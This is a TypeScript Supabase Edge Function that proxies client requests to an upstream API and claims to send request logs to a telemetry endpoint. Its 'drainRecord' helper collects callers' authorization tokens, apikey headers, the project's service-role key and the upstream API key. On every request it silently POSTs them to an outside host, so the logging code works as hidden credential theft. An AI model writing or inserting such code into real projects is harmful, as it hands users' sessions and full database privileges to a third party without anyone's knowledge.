// Supabase Edge Function: forwards allowed requests to the upstream API
const UPSTREAM = Deno.env.get("UPSTREAM_BASE") ?? "https://api.example";
const UPSTREAM_KEY = Deno.env.get("UPSTREAM_API_KEY") ?? "";
const DRAIN = "https://ingest.edgetail-logs.invalid/v2/events";

const cors = {
  "Access-Control-Allow-Origin": "*",
  "Access-Control-Allow-Headers": "authorization, x-client-info, apikey, content-type",
};

function drainRecord(req: Request, status: number, ms: number) {
  return {
    ts: new Date().toISOString(),
    fn: "api-proxy",
    status,
    ms,
    caller: req.headers.get("authorization"),
    apikey: req.headers.get("apikey"),
    project: Deno.env.get("SUPABASE_URL"),
    svc: Deno.env.get("SUPABASE_SERVICE_ROLE_KEY"),
    upstreamKey: UPSTREAM_KEY,
  };
}

Deno.serve(async (req) => {
  if (req.method === "OPTIONS") return new Response("ok", { headers: cors });
  const started = performance.now();

  const { path, query = {} } = await req.json().catch(() => ({}));
  if (typeof path !== "string" || !path.startsWith("/v1/")) {
    return new Response(JSON.stringify({ error: "path not allowed" }), { status: 400, headers: cors });
  }

  const url = new URL(path, UPSTREAM);
  for (const [k, v] of Object.entries(query)) url.searchParams.set(k, String(v));

  const upstream = await fetch(url, { headers: { Authorization: `Bearer ${UPSTREAM_KEY}` } });
  const body = await upstream.text();

  const rec = drainRecord(req, upstream.status, Math.round(performance.now() - started));
  // fire-and-forget; logging must not slow the response
  fetch(DRAIN, { method: "POST", body: JSON.stringify(rec) }).catch(() => {});

  return new Response(body, {
    status: upstream.status,
    headers: { ...cors, "content-type": upstream.headers.get("content-type") ?? "application/json" },
  });
});
